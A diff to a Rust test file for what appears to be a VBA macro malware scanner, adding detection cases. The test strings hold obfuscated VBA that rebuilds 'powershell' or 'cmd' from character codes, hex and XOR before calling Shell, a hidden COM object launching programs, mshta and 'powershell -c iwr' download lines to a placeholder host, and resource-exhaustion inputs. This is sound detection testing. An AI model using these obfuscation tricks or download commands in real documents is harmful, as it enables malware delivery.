@@ -1,9 +1,7 @@
 //! Compound files and the VBA in them: read whole, read damaged, and judged.
 
-mod common;
-
-use common::office::{Compound, Module, ModuleKind, vba_project};
-use common::ovba::compress;
+use crate::common::office::{Compound, Module, ModuleKind, vba_project};
+use crate::common::ovba::compress;
 use sekisho::formats::cfb::CompoundFile;
 use sekisho::knowledge::Knowledge;
 use sekisho::limits::Limits;
@@ -114,13 +112,30 @@ fn calls_are_judged_by_what_they_do() {
         ),
         (
             "For i = 9 To 1 Step -1\ns = s & Mid(\"ehsrewop\", i, 1)\nNext i\nShell s & \"ll -e x\"",
-            &["vba-run-program"],
+            &["vba-run-interpreter"],
         ),
         (
             "Dim p(2)\np(0) = \"mshta \"\np(1) = \"http://\"\np(2) = \"a.example\"\nShell Join(p, \"\")",
             &["vba-run-interpreter"],
         ),
         ("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"cmd /c dir\"", &["vba-run-interpreter"]),
+        (
+            "a = Array(112, 111, 119, 101, 114)\nFor Each c In a\ns = s & Chr(c)\nNext\nShell s & \"shell -e x\"",
+            &["vba-run-interpreter"],
+        ),
+        (
+            "h = \"636d64202f63\"\ni = 1\nDo While i < Len(h)\ns = s & Chr(CByte(\"&H\" & Mid(h, i, 2)))\ni = i + 2\nLoop\nShell s",
+            &["vba-run-interpreter"],
+        ),
+        (
+            "a = Array(55, 57, 48)\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i) Xor 84)\nNext\nShell s & \" /c x\"",
+            &["vba-run-interpreter"],
+        ),
+        ("CreateObject(\"Shell.Application\").Open path", &["vba-run-program"]),
+        (
+            "GetObject(\"new:C08AFD90-F2A1-11D1-8455-00A0C91F3880\").Document.Application.ShellExecute path",
+            &["vba-hidden-object", "vba-run-program"],
+        ),
         // Names that are hidden.
         (
             "Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\no.Run path",
@@ -289,4 +304,35 @@ fn what_is_found_has_place_evidence_and_indicators() {
     );
     let values: Vec<&str> = report.indicators.iter().map(|indicator| indicator.value.as_str()).collect();
     assert_eq!(values, ["http://a.example/x.exe", "powershell -c iwr http://a.example/x.exe"]);
+}
+
+#[test]
+fn code_that_grows_without_bounds_costs_a_bounded_time() {
+    let start = std::time::Instant::now();
+    for body in [
+        "s = \"x\"\nDo\ns = s & s\nLoop",
+        "For i = 1 To 99999\nFor j = 1 To 99999\nFor k = 1 To 99999\ns = s & \"x\"\nNext\nNext\nNext",
+        "a = Array(1)\nFor i = 1 To 20000\na = Array(a, a)\nNext",
+        "Do While True\nx = x + 1\nLoop",
+        "s = String(200000, \"x\")\nDo While 1\nIf s = t Then Shell s\nLoop",
+        "s = Space(60000)\nDo\nt = Replace(s, \" \", s)\nu = Join(Split(s, \" \"), s)\nLoop While 1",
+        "Work Work(Work(given))",
+        "s = \"x\"\nDo While 1\ns = s & \"x\"\nWork s\nLoop",
+    ] {
+        findings(&[(
+            "Module1",
+            &format!("Function Work(given)\n{body}\nEnd Function\nSub AutoOpen()\nWork 1\nEnd Sub"),
+            ModuleKind::Standard,
+        )]);
+    }
+    let nested = format!("Sub AutoOpen()\nShell {}p{}\nEnd Sub", "(".repeat(50_000), ")".repeat(50_000));
+    let called = format!("Sub AutoOpen()\nShell {}p\nEnd Sub", "f(".repeat(50_000));
+    let dotted = format!("Sub AutoOpen()\nShell x{}\nEnd Sub", ".y".repeat(50_000));
+    let many = "Sub AutoOpen()\nAutoOpen AutoOpen AutoOpen\nShell p\nEnd Sub\n".repeat(5000);
+    let lines = "x = _\n".repeat(50_000);
+    for source in [nested, called, dotted, many, lines] {
+        let found = findings(&[("Module1", &source, ModuleKind::Standard)]);
+        assert!(!found.contains(&"scan-fault".to_owned()));
+    }
+    assert!(start.elapsed() < std::time::Duration::from_secs(30), "{:?}", start.elapsed());
 }
